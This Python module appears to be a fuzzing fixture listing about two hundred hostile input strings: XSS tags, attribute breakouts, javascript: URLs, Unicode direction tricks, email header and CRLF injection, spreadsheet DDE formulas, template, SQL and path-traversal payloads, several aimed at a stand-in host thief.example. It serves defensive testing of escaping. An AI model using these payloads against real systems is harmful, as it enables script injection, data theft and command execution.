"""Two hundred texts that mean no good, of eight kinds: what a customer, an agent or an executive may write anywhere."""

from __future__ import annotations

from itertools import product

_TAGS = (
    "<script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</blockquote></td></table><h1>Paid</h1>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>",
    "<iframe src=//thief.example></iframe>",
    "<form action=//thief.example><input name=code>",
    "<button formaction=//thief.example>Send</button>",
    "<link rel=stylesheet href=//thief.example/x.css>",
    "<style>body{display:none}</style>",
    "<style>@import'//thief.example/x.css';</style>",
    "<meta http-equiv=refresh content=0;url=//thief.example>",
    "<base href=//thief.example/>",
    "<object data=//thief.example></object>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<details open ontoggle=alert(1)>",
    "<a href='//thief.example'>Answer the customer</a>",
    "<!--><script>alert(1)//-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<SCRIPT SRC=//thief.example/x.js></SCRIPT>",
    "<\x00script>alert(1)</script>",
    "<script\n>alert(1)</script\t>",
    "＜script＞alert(1)＜/script＞",
    "<video><source onerror=alert(1)></video>",
)
_ATTRIBUTES = (
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onclick=alert(1) `",
    '"><b>bold</b>',
    "'><img src=x>",
    '" style="position:fixed;inset:0" x="',
    '" href="//thief.example',
    '\\" onclick=\\"alert(1)',
    '" class="answer" href="javascript:alert(1)',
    "x\u2028onclick=alert(1)",
    '" formaction="//thief.example',
    '" value="stolen',
    "&quot; onclick=&quot;alert(1)",
    "&#34; onclick=&#34;alert(1)",
    '" id="text" name="code',
    '" hidden x="',
    '"/><script>alert(1)</script>',
    "=alert(1)//",
    '" srcdoc="<script>alert(1)</script>',
)
_ADDRESSES = (
    *(
        f"{scheme}{rest}"
        for scheme, rest in product(
            ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", "data:text/html,"),
            ("alert(1)", "//%0aalert(1)", "<script>alert(1)</script>"),
        )
    ),
    "vbscript:msgbox(1)",
    "//thief.example/e/token",
    "https://thief.example/e/token",
    "http://loop.example@thief.example/e/token",
    "file:///etc/passwd",
    "\\\\thief.example\\share",
    "mailto:thief@thief.example?cc=all@example.com",
    "blob:https://thief.example/1",
    "[Answer](javascript:alert(1))",
    "<javascript:alert(1)>",
    "url(javascript:alert(1))",
    "expression(alert(1))",
)
_DIRECTION = (
    *(f"{mark}gnp.exe {mark}end" for mark in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c\ufeff"),
    "user\u202e moc.elpmaxe@poel \u202c",
    "\u2067C-\u2066A40Y7\u2069\u2069",
    "a\u200bb\u200cc\u200dd\u2060e",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!",
    "\U000e0041\U000e0042 tags",
    "раураl.example",
    "ａｄｍｉｎ",
    "\u0000\u0007\u0008\u001b[31mred\u001b[0m",
    "\u001b]0;title\u0007",
)
_ENCODED = (
    *(
        f"=?{charset}?{kind}?{text}?="
        for charset, (kind, text) in product(
            ("utf-8", "UTF-8", "iso-8859-1", "us-ascii", "gb18030"),
            (("q", "Bcc:_thief@thief.example"), ("q", "x=0ABcc:_thief@thief.example"), ("b", "eAoKPGgxPng8L2gxPg==")),
        )
    ),
    "=?utf-8?q?=0D=0ABcc:_thief@thief.example?=",
    "=?utf-8?b?DQpCY2M6IHRoaWVmQHRoaWVmLmV4YW1wbGU=?=",
    "=?utf-8?q?a?= =?utf-8?q?=0Ab?=",
    "=?utf-7?q?+ADw-script+AD4-?=",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "=?x-unknown?q?=FF=FE?=",
    "=?utf-8?q?" + "=41" * 100 + "?=",
)
_LINES = (
    *(
        f"x{end}{what}"
        for end, what in product(
            ("\r\n", "\n", "\r", "\r\n\r\n", "\u2028", "\u2029", "\u0085", "\x0b", "\x0c", "%0d%0a"),
            ("Bcc: thief@thief.example", "Code: AAAA-AA", "\n.\r\nMAIL FROM:<thief@thief.example>"),
        )
    ),
    "x\n> quoted\n-- \nSigned",
    "\n\ndata: {}\nid: 9\nevent: escalation.ended\n\n",
    "x\r\nContent-Type: text/html\r\n\r\n<h1>",
    "—— Please write your reply above this line ——",
    "On Monday, somebody wrote:\n> nothing",
    "--boundary--\r\n",
    "From thief@thief.example Mon Mar  2 09:00:00 2026",
)
_FORMULAS = (
    "=1+1",
    '=HYPERLINK("//thief.example","x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML("//thief.example","//a")',
    '"=1+1"',
    '=DDE("cmd";"/C calc")',
    "＝1+1",
    ";=1+1",
    '=WEBSERVICE("//thief.example")',
)
_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in y %}{% endfor %}",
    "{{ config }}",
    "{{ ''.__class__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{name}",
    "{0.__class__}",
    "%(name)s",
    "%s%n%x",
    "$(id)",
    "`id`",
    "'; drop table mails; --",
    "' or '1'='1",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "../../etc/passwd",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__",
    '{"$ne": null}',
    "NaN",
    "[object Object]",
    "<%- include('x') %>",
    "*|FNAME|*",
    "{{{raw}}}",
    "@{upn}",
    "\ud7ff\ue000\uffff",
    "a" * 3_000,
    "𝕏" * 500,
)

#: each is one string; there are at least two hundred
INJECTIONS: tuple[str, ...] = tuple(
    dict.fromkeys((*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_DIRECTION, *_ENCODED, *_LINES, *_FORMULAS, *_TEMPLATES))
)
